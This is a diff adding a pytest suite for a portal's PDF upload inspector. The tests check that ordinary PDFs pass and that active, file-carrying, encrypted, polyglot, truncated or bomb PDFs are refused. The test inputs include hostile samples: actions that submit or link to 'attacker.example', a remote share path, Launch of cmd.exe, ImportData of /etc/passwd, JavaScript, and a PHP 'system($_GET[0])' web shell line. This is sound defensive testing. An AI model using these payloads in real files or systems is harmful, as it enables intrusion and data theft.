@@ -1,0 +1,170 @@
+"""A PDF that runs, launches, sends, opens or carries something is refused; one that is read and clicked is not."""
+
+import io
+import zipfile
+
+import pytest
+from pypdf.generic import ArrayObject, NameObject, NullObject, NumberObject
+
+from portal.adapters.inspection.inspection import Inspected, inspect
+from portal.platform.errors import FileKind, UploadReason, UploadRefused
+from tests.parts import files, pdfs
+from tests.parts.pdfs import (
+    action,
+    annotation,
+    changed,
+    on_click,
+    opens_with,
+    shows_page_with,
+    with_file,
+    with_file_note,
+)
+
+WEB = action("URI", URI="https://attacker.example/")
+SCRIPT = action("JavaScript", JS="app.alert(1)")
+
+
+def looked_into(content: bytes) -> Inspected:
+    return inspect(io.BytesIO(content), max_bytes=50_000_000)
+
+
+def refused(content: bytes) -> UploadReason:
+    with pytest.raises(UploadRefused) as raised:
+        looked_into(content)
+    return raised.value.reason
+
+
+@pytest.mark.parametrize("pages", [1, 3, 40])
+@pytest.mark.parametrize("compressed", [True, False])
+def test_an_ordinary_one_passes_and_its_pages_are_counted(pages: int, compressed: bool) -> None:
+    found = looked_into(pdfs.typeset(pages, compressed=compressed))
+    assert (found.extension, found.pages) == ("pdf", pages)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        None,
+        on_click(WEB),
+        opens_with(action("GoTo", D=ArrayObject([NullObject(), NameObject("/Fit")]))),
+        opens_with(action("Named", N=NameObject("/FirstPage"))),
+        opens_with(ArrayObject([NumberObject(0), NameObject("/Fit")])),
+        pdfs.with_scripts_by_name(),
+    ],
+    ids=["as it is", "a link", "its first page", "a named place", "a place", "an empty list of scripts"],
+)
+def test_what_stays_in_the_document_or_waits_for_a_click_passes(change: pdfs.Change | None) -> None:
+    assert looked_into(changed(change)).extension == "pdf"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        opens_with(SCRIPT),
+        opens_with(WEB),
+        opens_with(action("Launch", F="cmd.exe")),
+        opens_with(action("GoToR", F="\\\\attacker.example\\share\\x.pdf")),
+        opens_with(action("SubmitForm", F="https://attacker.example/")),
+        opens_with(action("ImportData", F="/etc/passwd")),
+        opens_with(action("GoTo", D="first", Next=WEB)),
+        opens_with(action("GoTo", D="first", Next=ArrayObject([action("Named", N=NameObject("/Find")), WEB]))),
+        shows_page_with(WEB),
+        shows_page_with(SCRIPT),
+        on_click(SCRIPT),
+        on_click(action("Launch", F="cmd.exe")),
+        pdfs.with_scripts_by_name(SCRIPT),
+        lambda writer: writer.add_annotation(0, annotation("RichMedia")),
+        lambda writer: writer.add_annotation(0, annotation("Screen")),
+        pdfs.form_that_is_xml,
+    ],
+)
+@pytest.mark.parametrize("packed", [False, True])
+def test_one_that_does_something_by_itself_is_refused(change: pdfs.Change, packed: bool) -> None:
+    content = changed(change)
+    assert refused(pdfs.packed(content) if packed else content) == UploadReason.ACTIVE
+
+
+@pytest.mark.parametrize("change", [with_file, with_file_note])
+@pytest.mark.parametrize("packed", [False, True])
+def test_one_that_carries_a_file_is_refused(change: pdfs.Change, packed: bool) -> None:
+    content = changed(change)
+    assert refused(pdfs.packed(content) if packed else content) == UploadReason.CARRIES_FILES
+
+
+def test_an_attack_that_nothing_leads_to_is_found_too() -> None:
+    hidden = b"\n99 0 obj\n<< /Type /Action /S\n/Launch /F (cmd.exe) >>\nendobj\n"
+    content = files.real("cv.pdf")
+    at = content.rindex(b"startxref")
+    assert refused(content[:at] + hidden + content[at:]) == UploadReason.ACTIVE
+
+
+def test_one_that_only_its_owner_may_change_passes_for_anybody_may_open_it() -> None:
+    assert looked_into(changed(password=("", "owner"))).pages == 1
+    assert refused(changed(opens_with(SCRIPT), password=("", "owner"))) == UploadReason.ACTIVE
+
+
+def test_one_that_needs_a_password_is_refused_and_called_a_pdf() -> None:
+    with pytest.raises(UploadRefused) as raised:
+        looked_into(changed(password=("secret", "owner")))
+    assert (raised.value.reason, raised.value.kind) == (UploadReason.ENCRYPTED, FileKind.PDF)
+
+
+def archive_inside_of_a_pdf() -> bytes:
+    """A reader of PDF starts from its end, one of archives from an end of its own, whose comment is the PDF's."""
+    out = io.BytesIO()
+    pdf = files.real("cv.pdf")
+    at = pdf.rindex(b"startxref")
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("word/document.xml", b"<x/>")
+        archive.comment = b"\n" + pdf[at:]
+    return pdf[:at] + out.getvalue()
+
+
+PDF = files.real("cv.pdf")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"%PDF-1.7\n<html><script>alert(1)</script>\n" + PDF.partition(b"\n")[2],
+        b"%PDF-1.7 <?php system($_GET[0]); ?>\n" + PDF.partition(b"\n")[2],
+        PDF + files.zipped({"a": b"b"}),
+        archive_inside_of_a_pdf(),
+    ],
+    ids=["a page of the web", "a program for a server", "an archive behind", "an archive within"],
+)
+def test_one_that_is_something_else_at_the_same_time_is_refused(content: bytes) -> None:
+    assert refused(content) == UploadReason.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    ("content", "kind"),
+    [
+        (b"<!DOCTYPE html><script>alert(1)</script>" + PDF, FileKind.WEB_PAGE),
+        (b"GIF89a" + PDF, FileKind.PICTURE),
+        (b"\xff\xd8\xff\xe0\0\x10JFIF" + PDF, FileKind.PICTURE),
+        (b"MZ" + PDF, FileKind.PROGRAM),
+        (b"\x1f\x8b\x08\0" + PDF, FileKind.ARCHIVE),
+    ],
+)
+def test_one_behind_the_beginning_of_something_else_is_that(content: bytes, kind: FileKind) -> None:
+    with pytest.raises(UploadRefused) as raised:
+        looked_into(content)
+    assert (raised.value.reason, raised.value.kind) == (UploadReason.WRONG_TYPE, kind)
+
+
+@pytest.mark.parametrize("kept", [0.2, 0.5, 0.8, 0.99])
+def test_one_that_broke_off_is_damaged(kept: float) -> None:
+    assert refused(PDF[: int(len(PDF) * kept)]) == UploadReason.DAMAGED
+
+
+def test_one_whose_stream_inflates_without_end_is_refused_in_time() -> None:
+    assert refused(pdfs.bomb()) in (UploadReason.TOO_INVOLVED, UploadReason.DAMAGED)
+
+
+def test_one_whose_pages_go_in_a_circle_is_refused() -> None:
+    def circle(writer: object) -> None:
+        pages = writer.root_object["/Pages"]  # type: ignore[attr-defined]
+        pages[NameObject("/Kids")] = ArrayObject([writer.root_object.raw_get("/Pages")])  # type: ignore[attr-defined]
+
+    assert refused(changed(circle)) == UploadReason.DAMAGED
